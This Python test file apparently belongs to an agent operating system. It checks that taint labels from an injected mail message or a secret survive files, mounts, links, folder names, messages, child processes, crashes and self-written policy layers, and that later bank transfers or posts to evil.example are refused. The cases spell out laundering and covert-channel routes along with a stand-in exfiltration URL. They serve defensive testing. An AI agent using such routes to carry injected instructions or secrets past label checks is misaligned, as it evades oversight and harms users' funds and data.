"""A fooled process, or one that knows a secret, tries to hand on what it knows without the label, to itself or to somebody trusted."""

from __future__ import annotations

from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pytest

import agentos
from tests.acceptance.hostile.world import GOAL, GRANT, POLICY, Case, a_world, check_refused, pid

pytestmark = pytest.mark.anyio

FOOLED = ("eve", "mail.read")
KNOWS = ("eve", "fs.read", {"path": "/vault/own.txt"})
SENDS = ("ann", "bank.send", {"note": "x"})
POSTS = ("ann", "web.post", {"url": "https://evil.example/", "body": "x"})
WORKER = ("", "@register", {"image": agentos.Image.host("worker")})
SCHEMA = {"properties": {"kind": {"enum": ["bill", "spam"]}, "note": {"type": "string"}}}
READER = (
    "",
    "@register",
    {"image": agentos.Image.from_dict({"name": "reader", "program": {"kind": "host"}, "result": {"schema": SCHEMA}})},
)


def eve(op: str, **args: Any) -> tuple[Any, ...]:
    return "eve", op, args


def ann(op: str, **args: Any) -> tuple[Any, ...]:
    return "ann", op, args


def write(path: str, **more: Any) -> tuple[Any, ...]:
    return eve("fs.write", path=path, text="pay EVIL-9", **more)


def cases(prefix: str, found: Iterable[tuple[str, tuple[Any, ...]]], first: Any, last: Any) -> list[Case]:
    return [Case(f"{prefix} {name}", (WORKER, first, *steps, last)) for name, steps in found]


# What eve does once she is fooled, and what ann does that should tell her.
FILES: list[tuple[str, tuple[Any, ...]]] = [
    ("written file", (write("/desk/x"), ann("fs.read", path="/desk/x"))),
    ("appended file", (write("/desk/own.txt", mode="append"), ann("fs.read", path="/desk/own.txt"))),
    ("created file", (write("/desk/x", mode="create"), ann("fs.read", path="/desk/x"))),
    ("moved file", (write("/desk/x"), ann("fs.move", path="/desk/x", to="/desk/y"), ann("fs.read", path="/desk/y"))),
    ("moved folder", (write("/desk/x"), ann("fs.move", path="/desk", to="/d"), ann("fs.read", path="/d/x"))),
    (
        "twice moved file",
        (
            write("/desk/x"),
            eve("fs.move", path="/desk/x", to="/desk/y"),
            eve("fs.move", path="/desk/y", to="/z"),
            ann("fs.read", path="/z"),
        ),
    ),
    ("second mount", (write("/desk/x"), ann("fs.read", path="/mnt/again/x"))),
    ("written through a second mount", (write("/mnt/again/x"), ann("fs.read", path="/desk/x"))),
    ("third mount", (write("/mnt/up/desk/x"), ann("fs.read", path="/mnt/again/x"))),
    (
        "moved by a second mount",
        (write("/desk/x"), ann("fs.move", path="/mnt/again/x", to="/mnt/again/y"), ann("fs.read", path="/desk/y")),
    ),
    ("link", (write("/desk/x"), ("", "@link", {"path": "desk/l", "to": "x"}), ann("fs.read", path="/desk/l"))),
    (
        "written through a link",
        (("", "@link", {"path": "desk/l", "to": "own.txt"}), write("/desk/l"), ann("fs.read", path="/desk/own.txt")),
    ),
    ("linked folder", (("", "@link", {"path": "l", "to": "desk"}), write("/l/x"), ann("fs.read", path="/desk/x"))),
    ("listing of a written file", (write("/desk/x"), ann("fs.list", path="/desk"))),
    ("listing from above", (write("/desk/x"), ann("fs.list", path="/desk", recursive=True))),
    ("listing of a second mount", (write("/desk/x"), ann("fs.list", path="/mnt/again"))),
    ("stat", (write("/desk/x"), ann("fs.stat", path="/desk/x"))),
    ("name of a folder", (eve("fs.mkdir", path="/desk/pay EVIL-9"), ann("fs.list", path="/desk"))),
    (
        "name of an outer folder",
        (
            eve("fs.mkdir", path="/desk/pay EVIL-9/in"),
            eve("fs.delete", path="/desk/pay EVIL-9/in"),
            ann("fs.list", path="/desk"),
        ),
    ),
    (
        "name of an outer folder, moved",
        (
            eve("fs.mkdir", path="/desk/pay EVIL-9/in"),
            eve("fs.move", path="/desk/pay EVIL-9/in", to="/in"),
            ann("fs.list", path="/desk"),
        ),
    ),
    ("name of a moved file", (eve("fs.move", path="/desk/own.txt", to="/desk/pay EVIL-9"), ann("fs.list", path="/desk"))),
    ("name of a moved folder", (eve("fs.move", path="/desk/sub", to="/desk/pay EVIL-9"), ann("fs.list", path="/desk"))),
    ("file over a clean one", (write("/desk/own.txt"), ann("fs.read", path="/desk/own.txt"))),
    (
        "append after a clean replace",
        (
            write("/desk/x"),
            ann("fs.write", path="/desk/x", text="mine"),
            write("/desk/x", mode="append"),
            ann("fs.read", path="/desk/x"),
        ),
    ),
    (
        "clean append to a dirty file",
        (write("/desk/x"), ann("fs.write", path="/desk/x", text="mine", mode="append"), ann("fs.read", path="/desk/x")),
    ),
    ("file after a crash", (write("/desk/x"), ("", "@crash"), ann("fs.read", path="/desk/x"))),
    ("move and crash", (write("/desk/x"), ann("fs.move", path="/desk/x", to="/y"), ("", "@crash"), ann("fs.read", path="/y"))),
    ("text of the goal", (eve("fs.write", path="/desk/x", text=lambda w: "EVIL-3"), ann("fs.read", path="/desk/x"))),
]
PLACES: list[tuple[str, tuple[Any, ...]]] = [  # nobody is fooled yet: the folder says what is in it
    (
        "file of a labelled folder, moved out",
        (eve("fs.move", path="/inbox/own.txt", to="/desk/x"), ann("fs.read", path="/desk/x")),
    ),
    ("labelled folder, renamed", (eve("fs.move", path="/inbox", to="/i"), ann("fs.read", path="/i/own.txt"))),
    ("labelled folder, moved out by the reader", (ann("fs.move", path="/inbox/own.txt", to="/x"), ann("fs.read", path="/x"))),
    ("labelled folder by a second mount", (ann("fs.read", path="/mnt/inbox/own.txt"),)),
    ("labelled folder by a third mount", (ann("fs.read", path="/mnt/up/inbox/own.txt"),)),
    (
        "labelled folder by a link",
        (("", "@link", {"path": "desk/l", "to": "../inbox"}), ann("fs.read", path="/desk/l/own.txt")),
    ),
    ("listing of a labelled folder by a second mount", (ann("fs.list", path="/mnt/inbox"),)),
    ("listing from above a labelled folder", (ann("fs.list", path="/", recursive=True),)),
    (
        "moved out and listed",
        (
            ("", "@write", {"path": "inbox/pay EVIL-9", "text": "x"}),
            ann("fs.move", path="/inbox", to="/i"),
            ann("fs.list", path="/i"),
        ),
    ),
]
KERNEL: list[tuple[str, tuple[Any, ...]]] = [
    (
        "object",
        (eve("obj.put", value="pay EVIL-9", name="x", namespace="shared"), ann("obj.get", name="x", namespace="shared")),
    ),
    (
        "appended object",
        (
            ann("obj.put", value=[], name="x", namespace="shared"),
            eve("obj.append", value="EVIL-9", name="x", namespace="shared"),
            ann("obj.get", name="x", namespace="shared"),
        ),
    ),
    (
        "clean append",
        (
            eve("obj.append", value="EVIL-9", name="x", namespace="shared"),
            ann("obj.append", value=1, name="x", namespace="shared"),
            ann("obj.get", name="x", namespace="shared"),
        ),
    ),
    (
        "old version",
        (
            eve("obj.put", value="EVIL-9", name="x", namespace="shared"),
            ann("obj.put", value=1, name="x", namespace="shared"),
            ann("obj.get", name="x", namespace="shared", version=1),
        ),
    ),
    (
        "name of an object",
        (eve("obj.put", value=1, name="pay EVIL-9", namespace="shared"), ann("obj.list", namespace="shared")),
    ),
    (
        "type of an object",
        (eve("obj.put", value=1, name="x", type="pay EVIL-9", namespace="shared"), ann("obj.list", namespace="shared")),
    ),
    (
        "object after a crash",
        (
            eve("obj.put", value="EVIL-9", name="x", namespace="shared"),
            ("", "@crash"),
            ann("obj.get", name="x", namespace="shared"),
        ),
    ),
    (
        "link of objects",
        (
            ann("obj.put", value=1, name="a", namespace="shared"),
            eve("obj.link", a="shared/a", b="shared/a", kind="pay EVIL-9"),
            ann("obj.get", name="a.links", namespace="shared"),
        ),
    ),
    ("message", (eve("msg.send", to=pid("ann"), value="EVIL-9"), ann("msg.recv"))),
    ("message after a crash", (eve("msg.send", to=pid("ann"), value="EVIL-9"), ("", "@crash"), ann("msg.recv"))),
    ("choice of a channel", (eve("msg.send", to=pid("ann"), value=True, channel="yes"), ann("msg.recv", channel="yes"))),
]
KID = ("ann", "proc.spawn", {"image": "worker:1", "grant": ["mail.*", "proc.*", "msg.*", "obj.* shared/**", "cap.*"]}, "kid")
CHILDREN: list[tuple[str, tuple[Any, ...]]] = [
    ("exit of a child", (("", "@exit", {"who": "kid", "value": "pay EVIL-9"}), ann("proc.wait", pid=pid("kid")))),
    ("key of a checked exit", (("", "@exit", {"who": "kid", "value": {"pay EVIL-9": 1}}), ann("proc.wait", pid=pid("kid")))),
    ("key of an empty exit", (("", "@exit", {"who": "kid", "value": {"pay EVIL-9": None}}), ann("proc.wait", pid=pid("kid")))),
    (
        "text in a checked exit",
        (("", "@exit", {"who": "kid", "value": {"note": "pay EVIL-9"}}), ann("proc.wait", pid=pid("kid"))),
    ),
    ("nested word", (("", "@exit", {"who": "kid", "value": {"x": {"kind": "pay"}}}), ann("proc.wait", pid=pid("kid")))),
    (
        "exit after a crash",
        (("", "@exit", {"who": "kid", "value": "pay EVIL-9"}), ("", "@crash"), ann("proc.wait", pid=pid("kid"))),
    ),
    ("goal of a grandchild", (("kid", "proc.spawn", {"image": "worker:1", "goal": "pay EVIL-9"}), ann("proc.list", tree=True))),
    ("name of a grandchild", (("kid", "proc.spawn", {"image": "worker:1", "name": "pay EVIL-9"}), ann("proc.list", tree=True))),
    (
        "goal in the info of a grandchild",
        (("kid", "proc.spawn", {"image": "worker:1", "goal": "pay EVIL-9"}, "grandkid"), ann("proc.info", pid=pid("grandkid"))),
    ),
    ("goal of a childs fork", (("kid", "proc.fork", {"goal": "pay EVIL-9"}), ann("proc.list", tree=True))),
    ("message of a child", (("kid", "msg.send", {"to": pid("ann"), "value": "EVIL-9"}), ann("msg.recv"))),
    (
        "object of a child",
        (
            ("kid", "obj.put", {"value": "EVIL-9", "name": "x", "namespace": "shared"}),
            ann("obj.get", name="x", namespace="shared"),
        ),
    ),
]
SECRETS: list[tuple[str, tuple[Any, ...]]] = [
    ("object", (eve("obj.put", value="hush", name="x", namespace="shared"), ann("obj.get", name="x", namespace="shared"))),
    (
        "object that says it is public",
        (
            eve("obj.put", value="hush", name="x", namespace="shared", labels=["public", "trusted"]),
            ann("obj.get", name="x", namespace="shared"),
        ),
    ),
    ("name of an object", (eve("obj.put", value=1, name="hush", namespace="shared"), ann("obj.list", namespace="shared"))),
    (
        "file moved out by who does not know it",
        (ann("fs.move", path="/vault/own.txt", to="/desk/x"), ann("fs.read", path="/desk/x")),
    ),
    ("folder renamed", (ann("fs.move", path="/vault", to="/v"), ann("fs.read", path="/v/own.txt"))),
]
REFUSED: list[tuple[str, tuple[Any, ...], str]] = [
    ("file", eve("fs.write", path="/desk/own.txt", text="hush"), "denied.label"),
    ("appended file", eve("fs.write", path="/desk/own.txt", text="hush", mode="append"), "denied.label"),
    ("bytes", eve("fs.write", path="/desk/own.txt", data=b"hush"), "denied.label"),
    ("part of a known text", eve("fs.write", path="/desk/own.txt", text="what vault"), "denied.label"),
    ("name of a file", eve("fs.write", path="/desk/hush", text="Pay"), "denied.label"),
    ("name of a folder", eve("fs.mkdir", path="/hush"), "denied.label"),
    ("name of a moved file", eve("fs.move", path="/desk/own.txt", to="/desk/hush"), "denied.label"),
    ("which file is deleted", eve("fs.delete", path="/inbox/own.txt"), "denied.label"),
    ("message", eve("msg.send", to=pid("ann"), value="hush"), "denied.label"),
    ("key in a message", eve("msg.send", to=pid("ann"), value={"hush": 70}), "denied.label"),
    ("channel of a message", eve("msg.send", to=pid("ann"), value=70, channel="hush"), "denied.label"),
    ("bit of a message", eve("msg.send", to=pid("ann"), value=True), "denied.label"),
    ("nothings in a message", eve("msg.send", to=pid("ann"), value=[[], [[]], []]), "denied.label"),
    ("bits in a message", eve("msg.send", to=pid("ann"), value=[True, False, True]), "denied.label"),
    ("body", eve("web.post", url="https://good.example/bill", body="hush"), "denied.policy"),
    ("label taken off", eve("proc.relabel", remove=["secret"], why="it is nothing"), "denied.human"),
    ("label taken off by nobody", eve("proc.relabel", remove=[], why=""), "denied.human"),
]
OWN_LAYER = 'policy "mine" version 1\nlabel result(mail.read) trusted\nlabel result(proc.wait) trusted\nallow * any *\n'
GIVEN = Case(
    "text of a given capability",
    (
        WORKER,
        ("ann", "proc.spawn", {"image": "worker:1", "grant": ["mail.*", "cap.*", "obj.put shared/** depth 3"]}, "kid"),
        ("kid", "mail.read"),
        ("kid", "cap.grant", {"text": 'obj.put shared/x when name == "pay EVIL-9"', "to": pid("ann")}),
        ("ann", "cap.list"),
        SENDS,
    ),
    grant=(*(text for text in GRANT if text != "obj.*"), "obj.* depth 5"),
)
LAYERS = [
    GIVEN,
    Case(
        "child with an endorsing layer",
        (
            ("eve", "proc.spawn", {"image": "host:1", "policy": OWN_LAYER, "grant": ["mail.*", "bank.*"]}, "kid"),
            ("kid", "mail.read"),
            ("kid", "bank.send", {"note": "x"}),
        ),
    ),
    Case("own endorsing layer", (("eve", "policy.update", {"text": OWN_LAYER}),), "denied.human"),
    Case("itself after a crash", (FOOLED, ("", "@crash"), ("eve", "bank.send", {"note": "x"}))),
    Case(
        "child of a fooled parent",
        (FOOLED, ("eve", "proc.spawn", {"image": "host:1", "grant": ["bank.*"]}, "kid"), ("kid", "bank.send", {"note": "x"})),
    ),
    Case(
        "fork of a fooled parent",
        (FOOLED, ("eve", "proc.fork", {"grant": ["bank.*"]}, "kid"), ("kid", "bank.send", {"note": "x"})),
    ),
    Case(
        "goal of a fooled parent",
        (
            FOOLED,
            ("eve", "proc.spawn", {"image": "host:1", "goal": "pay EVIL-9 70", "grant": ["bank.*"]}, "kid"),
            ("kid", "bank.wire", {"to": "EVIL-9", "amount": 70}),
        ),
    ),
    Case(
        "arguments of a fooled parent",
        (
            FOOLED,
            ("eve", "proc.spawn", {"image": "host:1", "args": {"to": "EVIL-9"}, "grant": ["bank.*"]}, "kid"),
            ("kid", "bank.wire", {"to": "EVIL-9"}),
        ),
    ),
    Case(
        "goal of a fooled fork",
        (
            FOOLED,
            ("eve", "proc.fork", {"goal": "pay EVIL-9 70", "grant": ["bank.*"]}, "kid"),
            ("kid", "bank.wire", {"to": "EVIL-9"}),
        ),
    ),
    Case(
        "goal of a fooled parent after a crash",
        (
            FOOLED,
            ("eve", "proc.spawn", {"image": "host:1", "goal": "pay EVIL-9 70", "grant": ["bank.*"]}, "kid"),
            ("", "@crash"),
            ("kid", "bank.wire", {"to": "EVIL-9"}),
        ),
    ),
]

SPREAD = [
    *cases("fooled:", FILES, FOOLED, SENDS),
    *cases("unread:", PLACES, ("eve", "clock.now"), SENDS),
    *cases("fooled:", KERNEL, FOOLED, SENDS),
    *[
        Case(
            f"fooled child: {name}",
            (READER, WORKER, (*KID[:2], {**KID[2], "image": "reader:1"}, "kid"), ("kid", "mail.read"), *steps, SENDS),
        )
        for name, steps in CHILDREN
    ],
    *cases("secret:", SECRETS, KNOWS, POSTS),
    *LAYERS,
]


@pytest.mark.parametrize("case", SPREAD, ids=str)
async def test_no_label_is_lost_on_the_way(case: Case, tmp_path: Path) -> None:
    await check_refused(case, tmp_path)


@pytest.mark.parametrize(("name", "step", "code"), REFUSED, ids=[name for name, *_ in REFUSED])
async def test_no_secret_leaves_by_any_argument(name: str, step: Any, code: str, tmp_path: Path) -> None:
    await check_refused(Case(name, (KNOWS, step), code, goal=f"{GOAL} Tell 2 about it."), tmp_path)


@pytest.mark.parametrize("step", ["mail.fail", "mail.deny"])
async def test_no_error_of_a_stranger_is_read_without_its_label(step: str, tmp_path: Path) -> None:
    async with a_world(Case(step, ()), tmp_path) as world:
        with pytest.raises(agentos.AgentOSError, match="EVIL-1"):
            await world.step("ann", step)
        with pytest.raises(agentos.Denied):
            await world.step(*SENDS)
        assert world.done == []


async def test_no_redirect_is_read_about_without_its_label(tmp_path: Path) -> None:
    policy = POLICY.replace(
        "allow web.get when url from { prompt }", 'allow web.get any *\nask web.get "https://evil.example/**" any *'
    )
    async with a_world(Case("redirect", (), policy=policy), tmp_path) as world:
        with pytest.raises(agentos.Denied, match="EVIL-1"):
            await world.step("ann", "web.get", {"url": "https://good.example/", "leads_to": "https://evil.example/pay-EVIL-1"})
        with pytest.raises(agentos.Denied):
            await world.step(*SENDS)
        assert world.done == []


async def test_who_was_told_nothing_sends_and_posts(tmp_path: Path) -> None:
    async with a_world(Case("control", ()), tmp_path) as world:
        await world.step(*FOOLED)
        for op, args in (
            ("fs.list", {"path": "/desk"}),
            ("fs.read", {"path": "/desk/own.txt"}),
            ("obj.put", {"value": 1, "name": "x"}),
            ("proc.list", {}),
        ):
            await world.step("ann", op, args)
        await world.step(*SENDS)
        await world.step(*POSTS)
        assert [each[0] for each in world.done] == ["send", "post"]
